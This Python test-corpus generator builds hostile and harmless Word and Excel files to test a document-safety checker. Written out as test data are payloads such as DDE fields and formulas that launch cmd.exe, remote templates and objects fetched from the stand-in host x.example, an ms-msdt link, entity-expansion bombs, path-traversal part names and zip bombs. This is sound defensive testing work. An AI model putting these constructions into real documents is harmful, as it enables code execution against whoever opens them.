"""Word documents and spreadsheets, written part by part."""

import struct
import zlib
from io import BytesIO
from zipfile import ZIP_BZIP2, ZIP_DEFLATED, ZIP_LZMA, ZIP_STORED, ZipFile, ZipInfo

from tests.documents.corpus import CorpusFile

RELATIONS = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/"
WORD = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
SHEET = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
MATHS = "http://schemas.openxmlformats.org/officeDocument/2006/math"
TYPES = "[Content_Types].xml"
DOCX_MAIN = "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"
XLSX_MAIN = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"
XML = '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'


def zipped(entries, method=ZIP_DEFLATED):
    out = BytesIO()
    with ZipFile(out, "w") as archive:
        for name, content in entries.items():
            archive.writestr(ZipInfo(name, (2026, 1, 1, 0, 0, 0)), content, method)
    return out.getvalue()


def types(main, part):
    return (
        f'{XML}<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Default Extension="rels" '
        'ContentType="application/vnd.openxmlformats-package.relationships+xml"/><Default Extension="xml" '
        f'ContentType="application/xml"/><Override PartName="/{part}" ContentType="{main}"/></Types>'
    )


def relations(*several):
    """Return relationships, each with a kind, a target, and whether the target is external."""
    rows = "".join(
        f'<Relationship Id="rId{at}" Type="{RELATIONS}{kind}" Target="{target}"{outside}/>'
        for at, (kind, target, outside) in enumerate(
            (k, t, ' TargetMode="External"' if o else "") for k, t, o in several
        )
    )
    space = "http://schemas.openxmlformats.org/package/2006/relationships"
    return f'{XML}<Relationships xmlns="{space}">{rows}</Relationships>'


def story(inside="<w:r><w:t>Safeguarding policy</w:t></w:r>"):
    return f'{XML}<w:document xmlns:w="{WORD}" xmlns:m="{MATHS}"><w:body><w:p>{inside}</w:p></w:body></w:document>'


def docx_parts(body=None, more=None, main="word/document.xml", kind=DOCX_MAIN):
    usual = {
        TYPES: types(kind, main),
        "_rels/.rels": relations(("officeDocument", main, False)),
        main: body or story(),
    }
    return usual | (more or {})


def docx(*args, **kwargs):
    return zipped(docx_parts(*args, **kwargs))


def xlsx_parts(cells="<c><v>1</v></c>", more=None, names="", kind=XLSX_MAIN):
    usual = {
        TYPES: types(kind, "xl/workbook.xml"),
        "_rels/.rels": relations(("officeDocument", "xl/workbook.xml", False)),
        "xl/workbook.xml": f'{XML}<workbook xmlns="{SHEET}"><definedNames>{names}</definedNames></workbook>',
        "xl/worksheets/sheet1.xml": f'{XML}<worksheet xmlns="{SHEET}"><row>{cells}</row></worksheet>',
    }
    return usual | (more or {})


def xlsx(*args, **kwargs):
    return zipped(xlsx_parts(*args, **kwargs))


def formula(words):
    return f"<c><f>{words}</f><v>1</v></c>"


def field(words):
    begin, end = (f'<w:r><w:fldChar w:fldCharType="{kind}"/></w:r>' for kind in ("begin", "end"))
    return f"{begin}<w:r><w:instrText>{words}</w:instrText></w:r>{end}"


def related(kind, target, outside=True, part="word/_rels/document.xml.rels"):
    return {part: relations((kind, target, outside))}


def locked():
    """Mark each entry as encrypted."""
    data = bytearray(docx())
    for mark, place in ((b"PK\x01\x02", 8), (b"PK\x03\x04", 6)):
        at = data.find(mark)
        while at >= 0:
            data[at + place] |= 1
            at = data.find(mark, at + 4)
    return bytes(data)


def unlike_its_list(what):
    """Make the header of a part differ from the part's entry in the list at the end."""
    data = bytearray(docx())
    at = data.find(b"PK\x03\x04", data.find(b"PK\x03\x04") + 4)
    if what == "name":
        data[at + 30] ^= 1
    elif what == "method":
        data[at + 8] = 0
    else:
        data[at + 22 : at + 26] = struct.pack("<I", 5)
    return bytes(data)


def overlapping():
    """Make two entries in the list use the same bytes."""
    whole = docx(more={"word/media/a.png": b"x" * 50, "word/media/b.png": b"x" * 50})
    at = whole.rfind(b"PK\x01\x02")
    first = whole.find(b"PK\x01\x02", 0, at)
    while whole.find(b"PK\x01\x02", first + 4, at) >= 0:
        first = whole.find(b"PK\x01\x02", first + 4, at)
    return whole[: at + 42] + whole[first + 42 : first + 46] + whole[at + 46 :]


def hidden_between():
    """Insert a part that is not in the list between two other parts."""
    whole = docx()
    start = whole.find(b"PK\x01\x02")
    more = zipped({"word/vbaProject.bin": b"x"})
    more = more[: more.find(b"PK\x01\x02")]
    end = whole.rfind(b"PK\x05\x06")
    size, offset = struct.unpack_from("<II", whole, end + 12)
    rows = bytearray(whole[start:end])
    last_local = whole.rfind(b"PK\x03\x04", 0, start)
    moved = whole[:last_local] + more + whole[last_local:start]
    at = rows.rfind(b"PK\x01\x02")
    rows[at + 42 : at + 46] = struct.pack("<I", last_local + len(more))
    tail = bytearray(whole[end:])
    tail[12:20] = struct.pack("<II", size, offset + len(more))
    return moved + bytes(rows) + bytes(tail)


def damaged_stream(method=ZIP_DEFLATED):
    """Damage the compressed bytes of the main part."""
    data = bytearray(zipped(docx_parts(story("<w:r><w:t>abc</w:t></w:r>" * 50)), method))
    at = data.rfind(b"word/document.xml", 0, data.find(b"PK\x01\x02")) + len("word/document.xml") + 6
    for place in range(at, at + 30):
        data[place] ^= 0xFF
    return bytes(data)


def hostile():
    macros, remote, embedded, dde = (
        "has macros",
        "from somewhere else",
        "another file embedded",
        "another program (DDE)",
    )
    damaged, links, bomb = "damaged", "gets data from other files", "much larger than we allow"
    for title, more in {
        "macros": {"word/vbaProject.bin": b"x"},
        "macros in capitals": {"word/VBAPROJECT.BIN": b"x"},
        "macros by relation": related("vbaProject", "other.bin", False) | {"word/other.bin": b"x"},
        "macros of old": {"word/vbaData.xml": "<a/>"},
        "controls": {"word/activeX/activeX1.bin": b"x"},
        "controls by relation": related("control", "c.xml", False) | {"word/c.xml": "<a/>"},
        "toolbars": related("attachedToolbars", "t.bin", False) | {"word/t.bin": b"x"},
    }.items():
        yield CorpusFile(title, "a.docx", docx(more=more), macros)
    kind = "application/vnd.ms-word.document.macroEnabled.main+xml"
    yield CorpusFile("macros by its type", "a.docx", docx(kind=kind), macros)
    yield CorpusFile("macro sheet", "a.xlsx", xlsx(more={"xl/macrosheets/sheet1.xml": "<a/>"}), macros)
    yield CorpusFile(
        "macro sheet by relation",
        "a.xlsx",
        xlsx(more=related("xlMacrosheet", "s.xml", False, "xl/_rels/workbook.xml.rels")),
        macros,
    )
    yield CorpusFile(
        "workbook with macros by its type",
        "a.xlsx",
        xlsx(kind="application/vnd.ms-excel.sheet.macroEnabled.main+xml"),
        macros,
    )
    for title, kind, target in (
        ("template", "attachedTemplate", "https://x.example/t.dotm"),
        ("template in capitals", "attachedTemplate", "HTTPS://x.example/t.dotm"),
        ("template spelt in codes", "attachedTemplate", "&#104;ttps://x.example/t.dotm"),
        ("template on a share", "attachedTemplate", "\\\\x.example\\t.dotm"),
        ("template on a share as a file", "attachedTemplate", "file://x.example/t.dotm"),
        ("template on a share, four strokes", "attachedTemplate", "file:////x.example/t.dotm"),
        ("template on a share, mixed strokes", "attachedTemplate", "file:\\\\x.example\\t.dotm"),
        ("object of the web", "oleObject", "mhtml:https://x.example/a.html!x-usc:https://x.example/a.html"),
        ("object of the web, plainly", "oleObject", "https://x.example/a.html!"),
        ("picture", "image", "https://x.example/a.png"),
        ("frame", "frame", "https://x.example/a.html"),
        ("part of the document", "subDocument", "https://x.example/a.docx"),
        ("program as a link", "hyperlink", "javascript:alert(1)"),
        ("help tool as a link", "hyperlink", "ms-msdt:/id PCWDiagnostic"),
        ("search as a link", "hyperlink", "search-ms:query=a&amp;crumb=location:\\\\x.example"),
        ("style", "styles", "https://x.example/styles.xml"),
        ("mail merge", "mailMergeSource", "\\\\x.example\\people.csv"),
    ):
        yield CorpusFile(f"fetched: {title}", "a.docx", docx(more=related(kind, target)), remote)
    plain = related("image", "https://x.example/a.png", outside=False)
    yield CorpusFile("fetched without saying that it is outside", "a.docx", docx(more=plain), remote)
    header = related("image", "https://x.example/a.png", part="word/_rels/header1.xml.rels")
    yield CorpusFile("fetched by the top of the page", "a.docx", docx(more=header), remote)
    wide = {
        "word/_rels/document.xml.rels": relations(("image", "https://x.example/a.png", True))
        .replace("UTF-8", "UTF-16")
        .encode("utf-16")
    }
    yield CorpusFile("fetched, in UTF-16", "a.docx", docx(more=wide), remote)
    ole = {"word/embeddings/oleObject1.bin": b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(500)}
    yield CorpusFile("embedded package", "a.docx", docx(more=ole), embedded)
    yield CorpusFile(
        "embedded object by relation",
        "a.docx",
        docx(more=related("oleObject", "o.bin", False) | {"word/o.bin": b"x"}),
        embedded,
    )
    yield CorpusFile(
        "embedded page", "a.docx", docx(more=related("aFChunk", "p.html", False) | {"word/p.html": "<p>"}), embedded
    )
    for title, start in (
        ("program", b"MZ"),
        ("PDF", b"%PDF-1.7"),
        ("rich text", b"{\\rtf1"),
        ("archive", zipped({"a": "b"})),
    ):
        yield CorpusFile(
            f"embedded {title}", "a.docx", docx(more={"word/media/image1.png": start + bytes(50)}), embedded
        )
    yield CorpusFile(
        "archive in an archive", "a.docx", docx(more={"word/a.dat": zipped({"b.zip": zipped({"c": "d"})})}), embedded
    )
    yield CorpusFile(
        "macros in the table behind a chart",
        "a.docx",
        docx(more={"word/embeddings/t.xlsx": xlsx(more={"xl/vbaProject.bin": b"x"})}),
        macros,
    )
    inner = docx(more={"word/embeddings/t.xlsx": xlsx(more={"xl/embeddings/u.xlsx": xlsx()})})
    yield CorpusFile("three documents in each other", "a.docx", inner, embedded)
    yield CorpusFile(
        "embedded object of a sheet", "a.xlsx", xlsx(more={"xl/embeddings/oleObject1.bin": b"x"}), embedded
    )
    for title, words in (
        ("plain", 'DDEAUTO c:\\\\Windows\\\\System32\\\\cmd.exe "/k calc"'),
        ("in small letters", "ddeauto cmd"),
        ("on being asked", "DDE excel a"),
        ("in two pieces", "DDE</w:instrText></w:r><w:r><w:instrText>AUTO cmd"),
        ("in codes of letters", "QUOTE 68 68 69 65 85 84 79"),
    ):
        yield CorpusFile(f"program by a field, {title}", "a.docx", docx(story(field(words))), dde)
    yield CorpusFile("program by a simple field", "a.docx", docx(story('<w:fldSimple w:instr=" DDEAUTO cmd "/>')), dde)
    nested = field(f"</w:instrText></w:r>{field('DDEAUTO cmd')}<w:r><w:instrText>")
    yield CorpusFile("program by a field in a field", "a.docx", docx(story(nested)), dde)
    loose = "<w:r><w:instrText>DDEAUTO cmd</w:instrText></w:r>"
    yield CorpusFile("program by a field without a beginning", "a.docx", docx(story(loose)), dde)
    footer = {"word/footer1.xml": story(field("DDEAUTO cmd")).replace("w:document", "w:ftr")}
    yield CorpusFile("program by the foot of the page", "a.docx", docx(more=footer), dde)
    other = (
        story(field("DDEAUTO cmd")).replace("xmlns:w=", "xmlns:q=").replace("w:", "q:").replace("xmlns:q:", "xmlns:")
    )
    yield CorpusFile("program by a field under another prefix", "a.docx", docx(other), dde)
    yield CorpusFile(
        "program in a main part elsewhere", "a.docx", docx(story(field("DDEAUTO cmd")), main="word/document2.dat"), dde
    )
    yield CorpusFile(
        "fetched by a field", "a.docx", docx(story(field('INCLUDEPICTURE "https://x.example/a.png" \\d'))), remote
    )
    yield CorpusFile(
        "fetched by a field from a share",
        "a.docx",
        docx(story(field('INCLUDETEXT "\\\\\\\\x.example\\\\a.docx"'))),
        remote,
    )
    yield CorpusFile(
        "question to a database", "a.docx", docx(story(field('DATABASE \\c "DSN=a" \\s "select 1"'))), remote
    )
    for title, words in (
        ("plain", "cmd|' /C calc'!A0"),
        ("after a plus", "1+cmd|'/C calc'!A0"),
        ("spelt in codes", "cmd&#124;' /C calc'!A0"),
        ("raw", "<![CDATA[cmd|'/c calc'!A0]]>"),
    ):
        yield CorpusFile(f"program by a formula, {title}", "a.xlsx", xlsx(formula(words)), dde)
    yield CorpusFile(
        "program by a name", "a.xlsx", xlsx(names="<definedName name=\"a\">cmd|'/c calc'!A0</definedName>"), dde
    )
    link = f'<externalLink xmlns="{SHEET}"><ddeLink ddeService="cmd" ddeTopic="/c calc"/></externalLink>'
    yield CorpusFile("program by a link", "a.xlsx", xlsx(more={"xl/externalLinks/externalLink1.xml": link}), dde)
    book = related("externalLink", "externalLinks/externalLink1.xml", False, "xl/_rels/workbook.xml.rels")
    yield CorpusFile("other workbook", "a.xlsx", xlsx(more=book), links)
    path = related("externalLinkPath", "file:///C:\\a.xlsx", True, "xl/externalLinks/_rels/externalLink1.xml.rels")
    yield CorpusFile("path of another workbook", "a.xlsx", xlsx(more=path), links)
    for words in ('_xlfn.WEBSERVICE("https://x.example")', '_xlfn.IMAGE("https://x.example/a.png")', 'RTD("a","","b")'):
        yield CorpusFile(f"formula {words[:12]}", "a.xlsx", xlsx(formula(words)), links)
    for title, inside in (
        ("page", "<webPr url='https://x.example'/>"),
        ("database", "<dbPr connection='DSN=a' command='select 1'/>"),
    ):
        more = {
            "xl/connections.xml": f'<connections xmlns="{SHEET}"><connection id="1">{inside}</connection></connections>'
        }
        yield CorpusFile(f"data from a {title}", "a.xlsx", xlsx(more=more), links)
    yield CorpusFile(
        "old kind of list of parts", "a.docx", docx(f'<!DOCTYPE a [<!ENTITY b "c">]>{story()[len(XML) :]}'), damaged
    )
    laughs = "".join(f'<!ENTITY a{n} "{f"&a{n - 1};" * 10 if n else "ha"}">' for n in range(10))
    yield CorpusFile("words that grow without end", "a.docx", docx(f"<!DOCTYPE a [{laughs}]><a>&a9;</a>"), damaged)
    yield CorpusFile("text that is cut off", "a.docx", docx(story()[:-20]), damaged)
    for name in ("../../escape.xml", "/etc/passwd", "word\\..\\..\\x", "C:/x", "word/../../x"):
        yield CorpusFile(f"part named {name}", "a.docx", docx(more={name: "x"}), damaged)
    cut = docx(more={"word/a.xml?.png": "<a/>"}).replace(b"a.xml?", b"a.xml\0")
    yield CorpusFile("part whose name has a blank byte", "a.docx", cut, damaged)
    twice = docx(more={"word/STYLES.xml": "<a/>", "word/styles.xml": "<a/>"})
    yield CorpusFile("two parts of one name", "a.docx", twice, damaged)
    for what in ("name", "method", "size"):
        yield CorpusFile(f"header unlike the list: {what}", "a.docx", unlike_its_list(what), damaged)
    yield CorpusFile("parts upon each other", "a.docx", overlapping(), damaged)
    yield CorpusFile("part that the list leaves out", "a.docx", hidden_between(), damaged)
    yield CorpusFile("something before the archive", "a.docx", b"PK\x03\x04" + bytes(60) + docx(), damaged)
    yield CorpusFile("broken", "a.docx", damaged_stream(), damaged)
    yield CorpusFile("broken, stored", "a.docx", damaged_stream(ZIP_STORED), damaged)
    yield CorpusFile("cut in two", "a.docx", docx()[: len(docx()) // 2], damaged)
    for method in (ZIP_BZIP2, ZIP_LZMA):
        yield CorpusFile(f"packed by method {method}", "a.docx", zipped(docx_parts(), method), damaged)
        yield CorpusFile(f"packed by method {method}, broken", "a.docx", damaged_stream(method), damaged)
    yield CorpusFile("marked as locked", "a.docx", locked(), "locked with a password")
    yield CorpusFile("more than a hundred to one", "a.docx", docx(more={"word/x.xml": bytes(11 * 1024**2)}), bomb)
    yield CorpusFile("two thousand parts", "a.docx", docx(more={f"word/media/{n}.png": b"" for n in range(2000)}), bomb)


def hungry():
    """Yield files that need a lot of memory or time."""
    yield CorpusFile(
        "seventy thousand parts",
        "a.docx",
        zipped(docx_parts() | {f"w/{n}": b"" for n in range(70_000)}, ZIP_STORED),
        "much larger than we allow",
    )
    lying = bytearray(docx(more={"word/x.xml": bytes(300 * 1024**2)}))
    for mark, place in ((b"PK\x01\x02", 24), (b"PK\x03\x04", 22)):
        at = lying.rfind(mark)
        lying[at + place : at + place + 4] = struct.pack("<I", 1000)
    yield CorpusFile("300 MB that say they are 1 kB", "a.docx", bytes(lying), "damaged")
    sheet = xlsx("<c><v>1</v></c>" * 3_000_000)
    yield CorpusFile("three million cells in one row", "a.xlsx", sheet, "much larger than we allow")


def harmless():
    yield CorpusFile("Word", "a.docx", docx())
    yield CorpusFile("Word on the web", "a.docx", docx(main="word/document2.xml"))
    styles = related("styles", "styles.xml", False) | {"word/styles.xml": f'<w:styles xmlns:w="{WORD}"/>'}
    yield CorpusFile("with styles", "a.docx", docx(more=styles))
    yield CorpusFile("stored without packing", "a.docx", zipped(docx_parts(), ZIP_STORED))
    for title, target in (
        ("on the author's disk", "file:///C:\\Users\\ada\\AppData\\Roaming\\Microsoft\\Templates\\Policy.dotx"),
        ("on the author's disk, plainly", "C:\\Templates\\Policy.dotx"),
        ("by its name", "Policy.dotx"),
    ):
        more = related("attachedTemplate", target, part="word/_rels/settings.xml.rels")
        yield CorpusFile(f"template {title}", "a.docx", docx(more=more))
    for address in ("https://www.gov.uk", "mailto:office@school.example", "tel:+441632960001", "policy.docx", "#top"):
        yield CorpusFile(f"link to {address}", "a.docx", docx(more=related("hyperlink", address)))
    yield CorpusFile(
        "picture from the author's disk", "a.docx", docx(more=related("image", "file:///C:\\Users\\ada\\clip.png"))
    )
    for words in (
        " PAGE ",
        ' TOC \\o "1-3" \\h ',
        ' HYPERLINK "https://www.gov.uk" ',
        ' DATE \\@ "d MMMM" ',
        ' INCLUDEPICTURE "C:\\\\a.png" ',
        " QUOTE 2026 ",
    ):
        yield CorpusFile(f"field{words}", "a.docx", docx(story(field(words))))
    yield CorpusFile("words about DDE", "a.docx", docx(story("<w:r><w:t>DDEAUTO cmd | DDE</w:t></w:r>")))
    fraction = (
        "<m:oMath><m:f><m:num><m:r><m:t>|x|</m:t></m:r></m:num><m:den><m:r><m:t>2</m:t></m:r></m:den></m:f></m:oMath>"
    )
    yield CorpusFile("formula of mathematics", "a.docx", docx(story(fraction)))
    chart = {
        "word/embeddings/Microsoft_Excel_Worksheet.xlsx": xlsx(),
        "word/charts/_rels/chart1.xml.rels": relations(
            ("package", "../embeddings/Microsoft_Excel_Worksheet.xlsx", False)
        ),
    }
    yield CorpusFile("chart with its table", "a.docx", docx(more=chart))
    logo = b'<!DOCTYPE svg PUBLIC "-//W3C//DTD SVG 1.1//EN" "http://www.w3.org/a.dtd"><svg xmlns="http://www.w3.org/2000/svg"/>'
    yield CorpusFile("drawing with a DOCTYPE", "a.docx", docx(more={"word/media/image1.svg": logo}))
    yield CorpusFile(
        "drawing of old that is no XML", "a.xlsx", xlsx(more={"xl/drawings/vmlDrawing1.vml": "<xml><br></xml>"})
    )
    yield CorpusFile(
        "settings of a printer", "a.xlsx", xlsx(more={"xl/printerSettings/printerSettings1.bin": bytes(200)})
    )
    yield CorpusFile("part in UTF-16", "a.docx", docx(story().replace("UTF-8", "UTF-16").encode("utf-16")))
    yield CorpusFile("saved by LibreOffice", "a.docx", zipped({"mimetype": "application/x"} | docx_parts()))
    yield CorpusFile("Excel", "a.xlsx", xlsx())
    for words in (
        "SUM(A1:A9)",
        "IF(A1&gt;0,\"a|b\",'Data|2026'!B2)",
        'HYPERLINK("https://www.gov.uk")',
        "IMAGES(1)",
        "A1*-B2",
    ):
        yield CorpusFile(f"formula {words}", "a.xlsx", xlsx(formula(words)))
    model = "<connection id='1'><dbPr connection='Data Model Connection' command='Model'/></connection>"
    own = f'<connections xmlns="{SHEET}">{model}</connections>'
    yield CorpusFile("its own data", "a.xlsx", xlsx(more={"xl/connections.xml": own}))
    yield CorpusFile(
        "large picture that packs little",
        "a.docx",
        zipped(docx_parts(more={"word/media/a.png": _noise(11)}), ZIP_STORED),
    )
    streamed = BytesIO()
    with ZipFile(_NoSeek(streamed), "w", ZIP_DEFLATED) as archive:
        for name, content in docx_parts().items():
            archive.writestr(name, content)
    yield CorpusFile("sizes written after each part", "a.docx", streamed.getvalue())
    yield CorpusFile("Excel with a thousand rows", "a.xlsx", xlsx("<c><v>1</v></c>" * 10_000))


def _noise(megabytes):
    return b"\x89PNG" + zlib.compress(bytes(1000)) + bytes(megabytes * 1024**2)


class _NoSeek:
    def __init__(self, out):
        self.out = out

    def write(self, data):
        return self.out.write(data)

    def flush(self):
        pass
